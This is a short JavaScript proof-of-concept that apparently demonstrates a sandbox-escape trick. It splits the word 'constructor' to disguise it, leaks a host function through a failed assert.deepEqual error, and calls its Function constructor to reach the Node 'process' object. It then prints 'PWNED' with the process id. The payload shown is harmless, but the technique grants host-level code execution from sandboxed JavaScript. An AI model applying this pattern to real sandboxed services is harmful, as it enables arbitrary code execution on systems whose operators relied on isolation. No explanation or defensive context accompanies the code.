const w = ['con', 'structor'].join('');
const deep = require('assert').strict.deepEqual;
const box = { f: (x) => x };
try { deep(box, {}); } catch (e) { console.log('PWNED', e.actual.f[w]('return process')().pid); }
